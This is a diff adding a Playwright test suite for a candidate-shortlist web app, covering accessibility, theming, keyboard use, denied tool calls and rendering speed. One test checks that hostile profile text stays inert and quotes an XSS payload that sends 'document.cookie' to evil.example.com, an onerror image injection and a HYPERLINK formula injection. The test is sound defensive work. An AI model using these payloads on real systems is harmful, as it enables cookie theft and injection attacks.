@@ -1,0 +1,201 @@
+import json
+from statistics import median
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
+from playwright.sync_api import Page, expect
+
+from fj_mcp.sandbox.app import Sandbox
+from fj_mcp.sandbox.population.odd_people import HOSTILE_SKILL
+from tests.support.shortlist_page import CSHARP, NARROW, PEOPLE, Serve, Served, View, opened
+
+pytestmark = [pytest.mark.xdist_group("view-surroundings"), pytest.mark.unmeasured]
+
+PUNE = CSHARP | {"regions": ["Pune, Maharashtra, India"]}
+BACKGROUND = "getComputedStyle(document.documentElement).backgroundColor"
+
+
+def findings(view: View) -> list[str]:
+    """What axe calls serious or critical."""
+    result = Axe().run(view.page.frames[1]).response
+    assert len(result["passes"]) > 15
+    return [
+        f"{found['id']}: {node['html']} {node['failureSummary']}"
+        for found in result["violations"]
+        if found["impact"] in ("serious", "critical")
+        for node in found["nodes"]
+    ]
+
+
+@pytest.mark.parametrize(("theme", "width"), [("light", 1200), ("dark", 1200), ("light", NARROW)])
+def test_axe_finds_nothing_serious(page: Page, at: Served, theme: str, width: int) -> None:
+    page.set_viewport_size({"width": width, "height": 900})
+    view = opened(page, at, filters=PUNE, theme=theme).settled()
+    view.rows.first.locator(".opener").click()
+    view.frame.locator(".chip").last.click()
+    view.select(0)
+    expect(view.frame.get_by_role("heading", name="Experience")).to_be_visible()
+    assert findings(view) == []
+    view.button("Reveal e-mail").first.click()
+    expect(view.dialog).to_be_visible()
+    assert findings(view) == []
+
+
+def test_the_host_s_theme_and_colours_are_worn_and_its_changes_followed(
+    page: Page, at: Served
+) -> None:
+    view = opened(page, at, theme="dark").settled()
+    assert view.inside(BACKGROUND) == "rgb(23, 25, 28)"
+    page.evaluate("window.desk.wear('light')")
+    expect(view.frame.locator("html")).to_have_attribute("data-theme", "light")
+    assert view.inside(BACKGROUND) == "rgb(255, 255, 255)"
+    view = opened(page, at, variables={"--color-background-primary": "rgb(1, 2, 3)"}).settled()
+    assert view.inside(BACKGROUND) == "rgb(1, 2, 3)"
+
+
+@pytest.mark.parametrize("width", [NARROW, 760, 1200])
+def test_nothing_is_cut_off_sideways(page: Page, at: Served, width: int) -> None:
+    page.set_viewport_size({"width": width, "height": 900})
+    view = opened(page, at, filters={"skills": {"mandatory": [HOSTILE_SKILL]}}).settled()
+    view.rows.first.locator(".opener").click()
+    expect(view.frame.get_by_role("heading", name="Experience")).to_be_visible()
+    assert view.inside("document.documentElement.scrollWidth") == width
+    assert view.inside("document.documentElement.clientWidth") == width
+    row = view.rows.first
+    if width == NARROW:
+        lower = [row.locator(f".{kind}").bounding_box() for kind in ("name", "role", "why")]
+        tops = [box["y"] for box in lower if box]
+        assert len(tops) == 3
+        assert tops == sorted(set(tops))
+
+
+def test_the_host_is_told_the_height_of_the_whole_list(page: Page, at: Served) -> None:
+    view = opened(page, at, filters=PUNE).settled()
+    height = "document.documentElement.getBoundingClientRect().height"
+    page.wait_for_function(
+        "height => Math.abs(window.desk.recorded.heights.at(-1) - height) < 2",
+        arg=view.inside(height),
+    )
+    assert view.inside("document.documentElement.scrollHeight <= innerHeight")
+
+
+def test_the_keyboard_alone_is_enough(page: Page, at: Served) -> None:
+    view = opened(page, at, filters=PUNE).settled()
+    search = view.frame.get_by_role("searchbox")
+    search.focus()
+
+    def tab_to(name: str) -> None:
+        for _ in range(60):
+            page.keyboard.press("Tab")
+            told = view.inside(
+                "(document.activeElement.ariaLabel || document.activeElement.textContent).trim()"
+            )
+            if told.startswith(name):
+                outline = "getComputedStyle(document.activeElement).outlineStyle"
+                assert view.inside(outline) == "solid"
+                return
+        raise AssertionError(f"{name} cannot be reached")
+
+    tab_to("Name")
+    page.keyboard.press("Enter")
+    expect(view.frame.get_by_role("columnheader", name="Name")).to_have_attribute(
+        "aria-sort", "ascending"
+    )
+    first = view.names()[0]
+    tab_to(f"Select {first}")
+    page.keyboard.press("Space")
+    tab_to(first)
+    page.keyboard.press("Enter")
+    expect(view.frame.get_by_role("heading", name="Experience")).to_be_visible()
+    search.focus()
+    tab_to("Reveal e-mail")
+    page.keyboard.press("Enter")
+    expect(view.dialog).to_be_visible()
+    inside = (
+        "document.activeElement === document.body || !!document.activeElement.closest('dialog')"
+    )
+    for _ in range(5):
+        page.keyboard.press("Tab")
+        assert view.inside(inside)
+    # Behind the last button comes the host's page, and then the first one again.
+    tab_to("Cancel")
+    page.keyboard.press("Escape")
+    expect(view.dialog).to_be_hidden()
+    expect(view.button("Reveal e-mail").first).to_be_focused()
+    assert view.calls("reveal_contacts") == []
+
+
+def test_a_call_that_the_person_does_not_allow_is_told_and_can_be_repeated(
+    page: Page, at: Served
+) -> None:
+    view = opened(page, at, deny=["export_profiles", "get_candidate", "list_profiles"])
+    expect(view.problem).to_contain_text("list_profiles was not allowed")
+    expect(view.rows).to_have_count(20)
+    page.evaluate("window.desk.deny.delete('list_profiles')")
+    view.button("Try again").click()
+    expect(view.rows).to_have_count(PEOPLE)
+    view.button("Export all").click()
+    expect(view.problem).to_contain_text("export_profiles was not allowed")
+    expect(view.button("Export all")).to_be_enabled()
+    view.rows.first.locator(".opener").click()
+    panel = view.frame.locator(".opened")
+    expect(panel).to_contain_text("get_candidate was not allowed")
+    page.evaluate("window.desk.deny.delete('get_candidate')")
+    panel.get_by_role("button", name="Try again").click()
+    expect(view.frame.get_by_role("heading", name="Experience")).to_be_visible()
+
+
+def test_a_host_that_can_do_nothing_still_shows_the_first_people(page: Page, at: Served) -> None:
+    view = opened(page, at, without=["serverTools", "openLinks", "message"]).settled()
+    expect(view.rows).to_have_count(20)
+    expect(view.problem).to_contain_text("This app does not let the shortlist do that.")
+    view.button("LinkedIn profile", exact=False).first.click()
+    expect(view.problem).to_contain_text("does not open links. The address is https://")
+    view.select(0)
+    view.button("Ask the assistant").click()
+    view.dialog.get_by_role("button", name="Ask").click()
+    expect(view.problem).to_contain_text("does not pass questions on")
+
+
+def test_what_strangers_wrote_is_only_ever_text(page: Page, at: Served) -> None:
+    view = opened(page, at, filters={"skills": {"mandatory": [HOSTILE_SKILL]}}).settled()
+    before = view.inside("document.querySelectorAll('script, img, iframe, a').length")
+    shown = view.inside("document.body.textContent")
+    for text in ("<script>fetch('https://evil", "<img src=x onerror=alert(1)>", "=HYPERLINK("):
+        assert text in shown
+    count = view.rows.count()
+    for place in range(count):
+        view.rows.nth(place).locator(".opener").click()
+    expect(view.frame.get_by_role("heading", name="Experience")).to_have_count(count)
+    view.frame.get_by_role("checkbox", name="Select all shown").check()
+    view.button("Ask the assistant").click()
+    expect(view.dialog).to_contain_text('=HYPERLINK("https://evil.example.com/')
+    view.dialog.get_by_role("button", name="Ask").click()
+    expect(view.dialog).to_be_hidden()
+    assert view.inside("document.querySelectorAll('script, img, iframe, a').length") == before == 1
+    assert view.inside("document.querySelectorAll('[href], [src], [onerror]').length") == 0
+    # Their names are quoted there, each on a line of its own.
+    (message,) = view.recorded("messages")
+    lines = message.split("\n")[3:]
+    assert len(lines) == count
+    names = [json.loads(line.split(": ", 1)[1]) for line in lines]
+    assert (
+        "<script>fetch('https://evil.example.com/?c='+document.cookie)</script><b>Bold</b>"[:80]
+        in names
+    )
+
+
+def test_three_hundred_people_are_on_screen_within_300_ms(
+    page: Page, serve: Serve, capsys: pytest.CaptureFixture[str]
+) -> None:
+    at = serve(Sandbox(match_seconds=0, first_batch=300))
+    took = []
+    for _ in range(3):
+        view = opened(page, at, filters={"skills": {"mandatory": ["Python"]}}, whole=True)
+        expect(view.rows).to_have_count(300)
+        view.inside("new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")
+        (shown,) = view.inside("performance.getEntriesByName('fj-shown').map(one => one.duration)")
+        took.append(shown)
+    with capsys.disabled():
+        print(f"\n300 candidates on screen in {median(took):.0f} ms (median of 3)")  # noqa: T201
+    assert median(took) < 300
